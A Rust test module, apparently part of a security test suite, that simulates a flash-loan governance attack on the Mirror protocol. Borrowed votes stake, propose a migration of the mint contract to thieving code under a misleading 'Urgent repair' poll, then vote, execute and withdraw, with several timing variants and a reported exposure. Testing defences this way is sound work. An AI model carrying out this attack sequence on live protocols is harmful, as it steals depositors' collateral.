//! Borrowed votes that pass and carry out a poll before they are given back.

use cosmwasm_std::{to_json_binary, Binary};
use mirror_deploy::Listing;
use mirror_protocol::gov::{Cw20HookMsg, ExecuteMsg, PollAdminAction, VoteOption};
use mirror_testing::{percent, standard_profile, usual_params, TestChain, World};

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::thieving_code;
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "flash-voted migration",
    story: "Beanstalk, April 2022, 182 million dollars; open in Mirror v2, too: borrowed votes \
            staked, voted, ended and carried out an emergency poll in one transaction.",
    run,
};

/// Three quarters of the stake: alice, bob and carol have a million each. A migration needs two
/// thirds.
const BORROWED: u128 = 9 * MILLION;
/// The deposit of a poll for a migration.
const DEPOSIT: u128 = 2_000 * UNIT;
/// The number of the poll.
const POLL: u64 = 1;
/// The time after the hand-over from which on a migration with enough votes may end early.
const MATURE: u64 = 31 * DAY;
/// What mint holds for alice.
const COLLATERAL: u128 = 10 * MILLION;

fn run() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            in_one_transaction()?,
            in_one_block()?,
            with_votes_of_the_last_block()?,
            with_votes_of_a_day(0)?,
        ],
        exposures: vec![with_votes_of_a_day(MATURE)?.exposes(
            "three of four votes are really held, in view, from before the poll until a day after \
             it, and nobody stakes more against them beforehand: mint's coins are theirs",
        )],
    })
}

fn in_one_transaction() -> anyhow::Result<Attempt> {
    let mut voter = Voter::new()?;
    let transaction = voter.stakes(Transaction::new());
    let transaction = voter.proposes(transaction);
    let transaction = voter.votes(transaction);
    let transaction = voter.calls(transaction, &ExecuteMsg::EndPoll { poll_id: POLL });
    let transaction = voter.calls(transaction, &ExecuteMsg::ExecutePoll { poll_id: POLL });
    let transaction = voter.calls(transaction, &takes_back());
    voter.trial.tries("T-60", transaction)?;
    voter.trial.ends(
        "with three of four votes borrowed: staked, created a poll that gives mint other code, \
         voted, ended it, carried it out and withdrew, in one transaction",
    )
}

fn in_one_block() -> anyhow::Result<Attempt> {
    let mut voter = Voter::new()?;
    let transaction = voter.stakes(Transaction::new());
    let transaction = voter.proposes(transaction);
    let transaction = voter.votes(transaction);
    voter.trial.does(transaction)?;
    for msg in [
        ExecuteMsg::EndPoll { poll_id: POLL },
        ExecuteMsg::ExecutePoll { poll_id: POLL },
        takes_back(),
    ] {
        let transaction = voter.calls(Transaction::new(), &msg);
        voter.trial.tries("T-60", transaction)?;
    }
    voter.trial.world.chain.pass(6);
    let transaction = voter.calls(Transaction::new(), &takes_back());
    voter.trial.tries("T-60", transaction)?;
    voter.trial.ends(
        "the same in one block, a transaction for each step; in the next block the loan is still \
         locked by its vote",
    )
}

fn with_votes_of_the_last_block() -> anyhow::Result<Attempt> {
    let mut voter = Voter::new()?;
    let transaction = voter.proposes(Transaction::new());
    voter.trial.does(transaction)?;
    voter.trial.world.chain.pass(DAY);
    let transaction = voter.stakes(Transaction::new());
    let transaction = voter.votes(transaction);
    let transaction = voter.calls(transaction, &ExecuteMsg::EndPoll { poll_id: POLL });
    voter.trial.tries("T-60", transaction)?;
    voter.trial.world.chain.pass(6);
    let transaction = voter.calls(
        Transaction::new(),
        &ExecuteMsg::ExecutePoll { poll_id: POLL },
    );
    voter.trial.tries("T-60", transaction)?;
    voter
        .trial
        .ends("created the poll a day ahead and borrowed the votes for its last block")
}

/// Without a loan: the votes stay for a day, in which everybody can see the poll.
fn with_votes_of_a_day(age: u64) -> anyhow::Result<Attempt> {
    let mut voter = Voter::aged(age)?;
    let transaction = voter.stakes(Transaction::new());
    let transaction = voter.proposes(transaction);
    let transaction = voter.votes(transaction);
    voter.trial.does(transaction)?;
    voter.trial.world.chain.pass(DAY);
    let transaction = voter.calls(Transaction::new(), &ExecuteMsg::EndPoll { poll_id: POLL });
    voter.trial.tries("T-60", transaction)?;
    voter.trial.world.chain.pass(6);
    let transaction = voter.calls(
        Transaction::new(),
        &ExecuteMsg::ExecutePoll { poll_id: POLL },
    );
    voter.trial.tries("T-60", transaction)?;
    voter.trial.ends(
        "really held three of four votes, and ended the poll after a day, in the first 30 days of \
         a protocol that gov owns",
    )
}

/// The attacker with his votes, in a governed protocol with coins in mint, and the code that would
/// take them.
struct Voter {
    trial: Trial,
    evil_code: u64,
    migrate: Binary,
}

impl Voter {
    fn new() -> anyhow::Result<Self> {
        Self::aged(MATURE)
    }

    /// The attack begins `age` seconds after the hand-over.
    fn aged(age: u64) -> anyhow::Result<Self> {
        let mut profile = standard_profile(&TestChain::new());
        profile.assets.push(Listing {
            name: "Apple".to_string(),
            symbol: "mAAPL".to_string(),
            feeder: None,
            params: usual_params(),
        });
        let mut world = World::governed_as(profile);
        world.feeds(&[("mAAPL", "10")]);
        world.alice().opens(COLLATERAL, "mAAPL", percent(200));
        world.chain.pass(age);
        let attacker = world.chain.account("attacker");
        world.gives_mir(&attacker, BORROWED + DEPOSIT);
        let migrate = to_json_binary(&thieving_code::MigrateMsg {
            thief: Some(attacker),
            token: None,
        })?;
        Ok(Self {
            evil_code: world.chain.app.store_code(thieving_code::code()),
            trial: Trial::new(world, &[("MIR", fixtures::price("0.5")?)])?,
            migrate,
        })
    }

    fn stakes(&self, transaction: Transaction) -> Transaction {
        self.hands(transaction, BORROWED, &Cw20HookMsg::StakeVotingTokens {})
    }

    fn proposes(&self, transaction: Transaction) -> Transaction {
        let mint = self.trial.world.at.mint.to_string();
        let migration = (mint, self.evil_code, self.migrate.clone());
        let create = Cw20HookMsg::CreatePoll {
            title: "Urgent repair of mint".to_string(),
            description: "Keep your coins safe".to_string(),
            link: None,
            execute_msg: None,
            admin_action: Some(PollAdminAction::ExecuteMigrations {
                migrations: vec![migration],
            }),
        };
        self.hands(transaction, DEPOSIT, &create)
    }

    fn votes(&self, transaction: Transaction) -> Transaction {
        let vote = ExecuteMsg::CastVote {
            poll_id: POLL,
            vote: VoteOption::Yes,
            amount: BORROWED.into(),
        };
        self.calls(transaction, &vote)
    }

    fn hands(&self, transaction: Transaction, amount: u128, hook: &Cw20HookMsg) -> Transaction {
        let at = &self.trial.world.at;
        transaction.hands(&at.mirror_token, amount, &at.gov, hook)
    }

    fn calls(&self, transaction: Transaction, msg: &ExecuteMsg) -> Transaction {
        transaction.calls(&self.trial.world.at.gov, msg)
    }
}

/// Names the amount; without one gov would pay only what is not locked.
fn takes_back() -> ExecuteMsg {
    ExecuteMsg::WithdrawVotingTokens {
        amount: Some(BORROWED.into()),
    }
}
